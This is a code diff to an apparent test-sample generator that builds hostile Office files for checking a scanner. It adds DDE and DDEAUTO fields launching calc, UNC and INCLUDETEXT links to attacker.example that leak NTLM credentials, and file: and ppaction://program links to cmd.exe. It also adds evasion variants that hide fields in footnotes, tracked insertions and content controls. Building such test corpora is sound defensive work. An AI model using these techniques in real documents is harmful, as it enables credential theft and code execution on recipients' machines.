@@ -8,6 +8,7 @@ kits do it. Section numbers are ECMA-376 5th edition Part 1 unless said otherwis
 from __future__ import annotations
 
 import html
+import posixpath
 import re
 from pathlib import Path, PurePosixPath
 
@@ -75,8 +76,8 @@ def _add_part(package: base.Package, part: str, data: bytes | str, content_type:
     """A new part, its content type and the relationship that reaches it (target relative to `rels`' owner)."""
     package.put(part, data)
     package.content_type("/" + part, content_type)
-    owner = PurePosixPath(rels).parent.parent
-    package.add_rel(rels, rel_id, rel_type, str(PurePosixPath(part).relative_to(owner)) if str(owner) != "." else part)
+    owner = str(PurePosixPath(rels).parent.parent)
+    package.add_rel(rels, rel_id, rel_type, posixpath.relpath(part, owner) if owner != "." else part)
 
 
 def _word_rel_element(rel_type: str, target: str, element: str, external: bool = True) -> bytes:
@@ -848,3 +849,136 @@ def doc_benign_via_libreoffice(work: Path) -> bytes:
     source = work / "memo_source.rtf"
     source.write_bytes(b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Meeting memo: room 2.\\par}")
     return base.libreoffice(work, source, "doc:MS Word 97").read_bytes()
+
+
+# ---------------------------------------------------------------- second round: where fields and links hide
+@sample("docx_field_spans_paragraphs", ".docx", "dde-field", "§17.16.18: a complex field may begin in one paragraph and end in another")
+def docx_field_spans_paragraphs(work: Path) -> bytes:
+    package = _docx()
+    package.body_append(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">DDE</w:instrText></w:r></w:p>'
+        f'<w:p><w:r><w:instrText xml:space="preserve">AUTO {html.escape(CALC)} "/k calc"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + _run("x") + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return package.bytes()
+
+
+@sample("docx_field_in_tracked_insertion", ".docx", "dde-field", "§17.13.5.18 w:ins: runs of a tracked insertion are live text")
+def docx_field_in_tracked_insertion(work: Path) -> bytes:
+    return _word_with(f'<w:ins w:id="1" w:author="a" w:date="2026-01-01T00:00:00Z">{_complex_field([DDEAUTO])}</w:ins>')
+
+
+@sample("docx_field_in_content_control", ".docx", "dde-field", "§17.5.2 sdt content control wrapping a DDE field")
+def docx_field_in_content_control(work: Path) -> bytes:
+    return _word_with(f'<w:sdt><w:sdtPr><w:id w:val="7"/></w:sdtPr><w:sdtContent>{_simple_field(DDEAUTO)}</w:sdtContent></w:sdt>')
+
+
+@sample("docx_field_in_alternate_content", ".docx", "dde-field", "ECMA-376 Part 3 §10.2 mc:AlternateContent Choice/Fallback")
+def docx_field_in_alternate_content(work: Path) -> bytes:
+    field = _complex_field([DDEAUTO])
+    return _word_with(
+        f'<mc:AlternateContent><mc:Choice Requires="w14">{field}</mc:Choice><mc:Fallback>{field}</mc:Fallback></mc:AlternateContent>'
+    )
+
+
+@sample("docx_field_in_footnote", ".docx", "dde-field", "§17.11 footnotes part with an INCLUDETEXT field")
+def docx_field_in_footnote(work: Path) -> bytes:
+    package = _docx()
+    include = _simple_field('INCLUDETEXT "\\\\\\\\attacker.example\\\\s\\\\x.docx"')
+    notes = f'<w:footnotes xmlns:w="{W_NS}"><w:footnote w:id="1"><w:p>{include}</w:p></w:footnote></w:footnotes>'
+    _add_part(package, "word/footnotes.xml", notes, "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
+              DOCUMENT_RELS, "rIdFn", RT + "footnotes")
+    package.body_append('<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>')
+    return package.bytes()
+
+
+@sample("docx_hyperlink_rel_protocol_relative", ".docx", "external-relationship", "RFC 3986 §4.2 network-path reference: '//host/share' is UNC on Windows")
+def docx_hyperlink_rel_protocol_relative(work: Path) -> bytes:
+    return _word_rel_element(RT + "hyperlink", "//attacker.example/share/invoice.exe",
+                             '<w:p><w:hyperlink r:id="rIdAtk">' + _run("請求書") + "</w:hyperlink></w:p>")
+
+
+@sample("docx_hyperlink_rel_tab_in_scheme", ".docx", "external-relationship", "WHATWG URL §4.4: tab and newline are removed from URLs")
+def docx_hyperlink_rel_tab_in_scheme(work: Path) -> bytes:
+    return _word_rel_element(RT + "hyperlink", " fi&#9;le:///C:/Windows/System32/calc.exe",
+                             '<w:p><w:hyperlink r:id="rIdAtk">' + _run("開く") + "</w:hyperlink></w:p>")
+
+
+@sample("docx_vml_imagedata_unc", ".docx", "external-relationship", "VML v:imagedata src / o:href to a UNC path (NTLM leak)")
+def docx_vml_imagedata_unc(work: Path) -> bytes:
+    return _word_with(
+        '<w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt">'
+        '<v:imagedata src="\\\\attacker.example\\share\\p.png" o:href="file://attacker.example/share/q.png"/>'
+        "</v:shape></w:pict></w:r>"
+    )
+
+
+@sample("xlsx_table_calculated_column_dde", ".xlsx", "dde-formula", "§18.5.1.1 table calculatedColumnFormula with DDE")
+def xlsx_table_calculated_column_dde(work: Path) -> bytes:
+    package = _xlsx(sheet_extra=f'<tableParts count="1"><tablePart xmlns:r="{RT[:-1]}" r:id="rIdTbl"/></tableParts>')
+    table = (
+        '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T1" displayName="T1" '
+        'ref="A1:B3"><tableColumns count="2"><tableColumn id="1" name="品目"/><tableColumn id="2" name="金額">'
+        "<calculatedColumnFormula>cmd|' /C calc'!A0</calculatedColumnFormula></tableColumn></tableColumns></table>"
+    )
+    _add_part(package, "xl/tables/table1.xml", table, "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml",
+              "xl/worksheets/_rels/sheet1.xml.rels", "rIdTbl", RT + "table")
+    return package.bytes()
+
+
+@sample("xlsx_hyperlink_rel_file", ".xlsx", "external-relationship", "§18.3.1.47 sheet hyperlink to file:")
+def xlsx_hyperlink_rel_file(work: Path) -> bytes:
+    package = _xlsx(sheet_extra=f'<hyperlinks><hyperlink xmlns:r="{RT[:-1]}" ref="A2" r:id="rIdLink"/></hyperlinks>')
+    package.add_rel("xl/worksheets/_rels/sheet1.xml.rels", "rIdLink", RT + "hyperlink", "file:///C:/Windows/System32/calc.exe", True)
+    return package.bytes()
+
+
+@sample("xlsx_chart_external_data", ".xlsx", "external-workbook", "§21.2.2.63 chart externalData + c:f into another workbook")
+def xlsx_chart_external_data(work: Path) -> bytes:
+    import io
+
+    import openpyxl
+    from openpyxl.chart import BarChart, Reference
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for row in (("a", 1), ("b", 2)):
+        sheet.append(row)
+    chart = BarChart()
+    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=2))
+    sheet.add_chart(chart, "D2")
+    buffer = io.BytesIO()
+    book.save(buffer)
+    package = base.Package(buffer.getvalue())
+    name = next(n for n in package.parts if n.startswith("xl/charts/chart") and n.endswith(".xml"))
+    text = re.sub(r"<c:f>[^<]*</c:f>", "<c:f>[1]Sheet1!$B$1:$B$2</c:f>", package.text(name))
+    text = text.replace("</c:chartSpace>", f'<c:externalData xmlns:r="{RT[:-1]}" r:id="rIdExt"/></c:chartSpace>')
+    package.put(name, text)
+    rels = name.replace("charts/", "charts/_rels/") + ".rels"
+    package.add_rel(rels, "rIdExt", RT + "package", "\\\\attacker.example\\share\\book.xlsx", True)
+    return package.bytes()
+
+
+@sample("xlsx_power_query_mashup", ".xlsx", "external-relationship", "Power Query DataMashup in customXml + refresh-on-open connection (Mimecast 2019)")
+def xlsx_power_query_mashup(work: Path) -> bytes:
+    package = base.Package(xlsx_web_query_connection(work))
+    package.put("customXml/item9.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">UEsDBBQAAgAIAA==</DataMashup>')
+    package.add_rel("xl/_rels/workbook.xml.rels", "rIdMash", RT + "customXml", "../customXml/item9.xml")
+    return package.bytes()
+
+
+@sample("pptx_run_level_ppaction", ".pptx", "ppaction", "§21.1.2.3.5 hlinkClick inside a text run's a:rPr")
+def pptx_run_level_ppaction(work: Path) -> bytes:
+    package = base.Package(base.pptx_bytes())
+    package.add_rel(SLIDE_RELS, "rIdRun", RT + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)
+    slide = package.text(SLIDE).replace(
+        "<a:r><a:t>熊出没注意</a:t></a:r>",
+        '<a:r><a:rPr lang="ja-JP"><a:hlinkClick r:id="rIdRun" action="ppaction://program"/></a:rPr><a:t>熊出没注意</a:t></a:r>', 1,
+    )
+    package.put(SLIDE, slide)
+    return package.bytes()
+
+
+@sample("pptx_ppaction_uppercase", ".pptx", "ppaction", "RFC 3986 §3.1: the scheme 'PPACTION' is case-insensitive")
+def pptx_ppaction_uppercase(work: Path) -> bytes:
+    return _pptx_action("PPACTION://PROGRAM", "file:///C:/Windows/System32/calc.exe")
